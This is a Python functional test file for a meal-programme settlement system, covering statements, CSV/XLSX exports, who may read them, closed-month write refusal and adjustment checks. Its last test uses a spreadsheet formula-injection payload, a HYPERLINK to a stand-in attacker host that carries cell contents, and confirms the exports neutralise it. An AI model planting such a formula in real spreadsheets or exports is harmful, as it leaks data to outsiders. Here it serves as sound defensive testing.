"""Settlement pages, statements and exports through the app, on both databases; and a closed month
refusing writes through every route (form check-in, API check-in, close, adjustment)."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import openpyxl
from sqlalchemy import func, select

from backend.db import Database
from backend.meals.models import CheckIn, CheckInStatus
from backend.settlement.models import LedgerLine
from tests import personas
from tests.conftest import ClientAs, World, csrf_token
from tests.functional import meals_support
from tests.functional.settlement_support import last_month, meals, small_cap_agreement, this_month

A, R, N, P = CheckInStatus.APPROVED, CheckInStatus.REJECTED, CheckInStatus.NEEDS_FIX, CheckInStatus.PENDING


def _m(month) -> str:  # type: ignore[no-untyped-def]
    return month.strftime("%Y-%m")


async def _close(browser, programme_id: int, month, confirm: bool = True):  # type: ignore[no-untyped-def]
    data = {"_csrf_token": await csrf_token(browser), "month": _m(month)}
    if confirm:
        data["confirm"] = "yes"
    return await browser.post(f"/settlement/{programme_id}/close", data=data)


async def _adjust(browser, pid: int, agreement_id: int, month, amount: str, reason: str):  # type: ignore[no-untyped-def]
    data = {
        "_csrf_token": await csrf_token(browser),
        "agreement_id": str(agreement_id),
        "month": _m(month),
        "amount_yuan": amount,
        "reason": reason,
    }
    return await browser.post(f"/settlement/{pid}/adjustments", data=data)


async def test_staff_see_the_draft_close_the_month_and_print_the_statement(
    client_as: ClientAs, world: World, database: Database
) -> None:
    agreement = await meals_support.agreement_of(database, world.person_id("qian"))
    made = await meals(
        database, agreement, last_month(), [A, A, R, P], reviewer_id=world.user_id(personas.SOCIAL_WORKER)
    )
    staff = await client_as(personas.STAFF)
    pid = agreement.programme_id
    page = await staff.get(f"/settlement/{pid}", params={"month": _m(last_month())})
    assert page.status_code == 200 and "30.00" in page.text and "草稿" in page.text
    assert (await _close(staff, pid, last_month(), confirm=False)).status_code == 400
    refused = await _close(staff, pid, last_month())
    assert refused.status_code == 409 and "等待审核" in refused.text
    # The pending one is rejected by its worker: now the month closes.
    from tests.functional.settlement_support import review

    await review(database, made[3].id, R, world.user_id(personas.SOCIAL_WORKER))
    closed = await _close(staff, pid, last_month())
    assert closed.status_code == 303, closed.text
    again = await _close(staff, pid, last_month())
    assert again.status_code == 409
    statement = await staff.get(f"/settlement/{pid}/statement", params={"month": _m(last_month())})
    assert statement.status_code == 200
    text = statement.text
    assert text.count("15.00") >= 2 and "30.00" in text and "已结算" in text
    assert re.search(r"<code class=\"hash hash-print\">[0-9a-f]{64}</code>", text)  # whole on paper
    ids = re.findall(r'<td data-label="[^"]*">(\d+)</td>', text)
    for c in made[:2]:
        assert str(c.id) in ids
    assert str(made[2].id) not in ids  # the rejected meal is not on the statement
    assert "ledger-mismatch" not in text
    async with database.transaction(read_only=True) as db:  # one line for the agreement's month
        line = (await db.scalars(select(LedgerLine))).one()
        assert (line.agreement_id, line.meal_count, line.amount_fen) == (agreement.id, 2, 3000)


async def test_csv_and_xlsx_list_one_row_per_paid_meal_with_safe_file_names(
    client_as: ClientAs, world: World, database: Database
) -> None:
    agreement = await small_cap_agreement(database, world, rate=1500, cap=4000)
    made = await meals(
        database, agreement, last_month(), [A, A, A, A, R], reviewer_id=world.user_id(personas.SOCIAL_WORKER)
    )
    staff = await client_as(personas.STAFF)
    await staff.post(
        "/language", data={"_csrf_token": await csrf_token(staff), "language": "en", "next": "/"}
    )
    pid = agreement.programme_id
    assert (await _close(staff, pid, last_month())).status_code == 303
    month = _m(last_month())
    response = await staff.get(f"/settlement/{pid}/statement.csv", params={"month": month})
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="settlement-{pid}-{month}.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Kind", "Agreement"]
    meal_rows = [r for r in rows if r[0] == "meal"]
    assert [int(r[6]) for r in meal_rows] == [c.id for c in made[:4]]
    assert [r[10] for r in meal_rows] == ["1500", "1500", "1000", "0"]
    assert meal_rows[0][11] == "15.00" and len(meal_rows[0][7]) == 64 and meal_rows[0][8]
    total = rows[-1]
    assert total[0] == "total" and total[10] == "4000" and total[11] == "40.00" and len(total[13]) == 64

    xlsx = await staff.get(f"/settlement/agreements/{agreement.id}/statement.xlsx", params={"month": month})
    assert xlsx.status_code == 200
    assert (
        xlsx.headers["content-disposition"] == f'attachment; filename="statement-{agreement.id}-{month}.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True)
    sheet = book["Meals"]
    data = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(data) == 4  # one row per approved meal of the month, nothing else
    assert [r[5] for r in data] == [c.id for c in made[:4]] and [r[9] for r in data] == [1500, 1500, 1000, 0]
    # Typed cells, so sums and filters work in Excel and WPS: numbers, real dates, yuan with two places.
    assert [r[10] for r in data] == [15, 15, 10, 0]
    assert [r[3].date() for r in data] == [c.day for c in made[:4]]  # a date cell, read back as datetime
    assert all(isinstance(r[8], datetime) for r in data)  # reviewed at: a real time, not text
    summary = dict(book["Summary"].iter_rows(values_only=True))
    assert summary["Total (fen)"] == 4000 and summary["Total (yuan)"] == 40
    styled = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Meals"]
    assert styled["K2"].number_format == "#,##0.00" and styled["D2"].number_format == "yyyy-mm-dd"
    assert styled.column_dimensions["C"].width >= 12
    assert "钱" not in xlsx.headers["content-disposition"]


async def test_a_large_month_streams_every_meal(
    client_as: ClientAs, world: World, database: Database
) -> None:
    """Many agreements (more than one batch) each with a meal: every row arrives, in order."""
    from backend.settlement import statements

    agreement = await meals_support.agreement_of(database, world.person_id("qian"))
    await meals(database, agreement, last_month(), [A] * 3, reviewer_id=world.user_id(personas.SOCIAL_WORKER))
    old = statements.BATCH_AGREEMENTS
    statements.BATCH_AGREEMENTS = 1
    try:
        staff = await client_as(personas.STAFF)
        response = await staff.get(
            f"/settlement/{agreement.programme_id}/statement.csv", params={"month": _m(last_month())}
        )
    finally:
        statements.BATCH_AGREEMENTS = old
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len([r for r in rows[1:-1]]) == 3


async def test_who_may_read_statements(client_as: ClientAs, world: World, database: Database) -> None:
    qian = await meals_support.agreement_of(database, world.person_id("qian"))
    feng = await meals_support.agreement_of(database, world.person_id("feng"))
    url = "/settlement/agreements/{}/statement"
    worker = await client_as(personas.SOCIAL_WORKER)
    assert (await worker.get(url.format(qian.id))).status_code == 200
    assert (await worker.get(url.format(feng.id))).status_code == 404
    assert (await worker.get(f"/settlement/{qian.programme_id}")).status_code == 403
    neighbour = await client_as(personas.NEIGHBOUR)
    assert (await neighbour.get(url.format(qian.id))).status_code == 403
    assert (await neighbour.get(url.format(qian.id) + ".csv")).status_code == 403
    staff = await client_as(personas.STAFF)
    assert (
        await staff.get(f"/settlement/{qian.programme_id}", params={"month": "2026-13"})
    ).status_code == 400
    assert (await staff.get(f"/settlement/{qian.programme_id}", params={"month": "abc"})).status_code == 400
    assert (await staff.get(f"/settlement/{world.outsider_programme_id}")).status_code == 404


async def test_a_closed_month_refuses_writes_through_every_route(
    client_as: ClientAs, world: World, database: Database
) -> None:
    agreement = await meals_support.agreement_of(database, world.person_id("qian"))
    made = await meals(
        database, agreement, last_month(), [A, N], reviewer_id=world.user_id(personas.SOCIAL_WORKER)
    )
    staff = await client_as(personas.STAFF)
    pid = agreement.programme_id
    assert (await _close(staff, pid, last_month())).status_code == 303
    # A review of the meal sent back, and its fix through the API, are refused too.
    worker = await client_as(personas.SOCIAL_WORKER)
    decided = await worker.post(
        f"/review/meal/{made[1].id}", data={"_csrf_token": await csrf_token(worker), "decision": "approve"}
    )
    assert (
        decided.status_code == 409
    )  # every meal of a closed month is decided; the month check stands behind
    day = last_month() + timedelta(days=8)
    neighbour = await client_as(personas.NEIGHBOUR)
    photo = meals_support.meal_jpeg(5, meals_support.at(day, 11, 50))
    by_form = await meals_support.form_checkin(neighbour, agreement.id, photo, day=day)
    assert by_form.status_code == 409
    photo_uuid = await meals_support.put_photo(neighbour, photo, world.person_id("qian"))
    body = {
        "agreement_id": agreement.id,
        "slot": "lunch",
        "day": day.isoformat(),
        "dishes": ["米饭"],
        "photo_uuids": [str(photo_uuid)],
    }
    assert (await meals_support.put_checkin(neighbour, body)).status_code == 409
    fix = {**body, "day": made[1].day.isoformat(), "replaces_id": made[1].id}
    refused_fix = await meals_support.put_checkin(neighbour, fix)
    assert refused_fix.status_code == 409 and "结算" in refused_fix.json()["detail"]
    assert (await _adjust(staff, pid, agreement.id, last_month(), "-15", "重复")).status_code == 409
    assert (await _adjust(staff, pid, agreement.id, this_month(), "-15", "上月重复一餐")).status_code == 303
    assert (await _adjust(staff, pid, agreement.id, this_month(), "15.5", "")).status_code == 400
    for bad in ("15.555", "1e9", "abc", "0", "1,500"):
        refused = await _adjust(staff, pid, agreement.id, this_month(), bad, "试一试")
        assert refused.status_code == 400 and "最多两位小数" in refused.text, bad
    async with database.transaction(read_only=True) as db:
        assert await db.scalar(select(func.count(LedgerLine.id))) == 2
        fixed = await db.get_one(CheckIn, made[1].id)
        assert fixed.status is N and fixed.superseded_at is None
    page = await staff.get(f"/settlement/{pid}", params={"month": _m(this_month())})
    assert "-15.00" in page.text


async def test_a_statement_per_neighbour_covers_her_agreements_only(
    client_as: ClientAs, world: World, database: Database
) -> None:
    qian = await meals_support.agreement_of(database, world.person_id("qian"))  # cooked by 赵桂兰
    second = await small_cap_agreement(database, world, rate=1500, cap=45000)  # 赵桂兰 too
    zheng = await meals_support.agreement_of(database, world.person_id("zheng"))  # 孙玉梅
    worker = world.user_id(personas.SOCIAL_WORKER)
    await meals(database, qian, last_month(), [A, A], reviewer_id=worker)
    await meals(database, second, last_month(), [A], reviewer_id=worker, seed=20)
    await meals(database, zheng, last_month(), [A], reviewer_id=worker, seed=40)
    staff = await client_as(personas.STAFF)
    params = {"month": _m(last_month()), "neighbour": str(qian.neighbour_id)}
    page = await staff.get(f"/settlement/{qian.programme_id}/statement", params=params)
    assert page.status_code == 200
    assert "钱老伯" in page.text and "测试老人" in page.text and "郑奶奶" not in page.text
    assert "45.00" in page.text  # her total over both agreements
    csv_file = await staff.get(f"/settlement/{qian.programme_id}/statement.csv", params=params)
    name = f"settlement-{qian.programme_id}-neighbour-{qian.neighbour_id}-{_m(last_month())}.csv"
    assert csv_file.headers["content-disposition"] == f'attachment; filename="{name}"'
    rows = [
        r for r in csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))) if r[0] in ("餐", "meal")
    ]
    assert len(rows) == 3
    nobody = await staff.get(
        f"/settlement/{qian.programme_id}/statement", params={**params, "neighbour": "999999"}
    )
    assert nobody.status_code == 200 and "钱老伯" not in nobody.text


async def test_a_reason_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(
    client_as: ClientAs, world: World, database: Database
) -> None:
    agreement = await meals_support.agreement_of(database, world.person_id("qian"))
    staff = await client_as(personas.STAFF)
    pid = agreement.programme_id
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
    added = await _adjust(staff, pid, agreement.id, this_month(), "-7.5", formula)
    assert added.status_code == 303
    month = _m(this_month())
    rows = list(
        csv.reader(
            io.StringIO(
                (await staff.get(f"/settlement/{pid}/statement.csv", params={"month": month})).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    [line] = [r for r in rows if r[12].endswith(formula)]
    assert line[12] == "'" + formula and line[10] == "-750" and line[11] == "-7.50"
    xlsx = await staff.get(f"/settlement/{pid}/statement.xlsx", params={"month": month})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[1]
    [cell] = [c for c in sheet["G"] if c.value == formula]
    assert cell.data_type == "s"
    assert (
        sheet.cell(row=cell.row, column=5).value == -750 and sheet.cell(row=cell.row, column=6).value == -7.5
    )
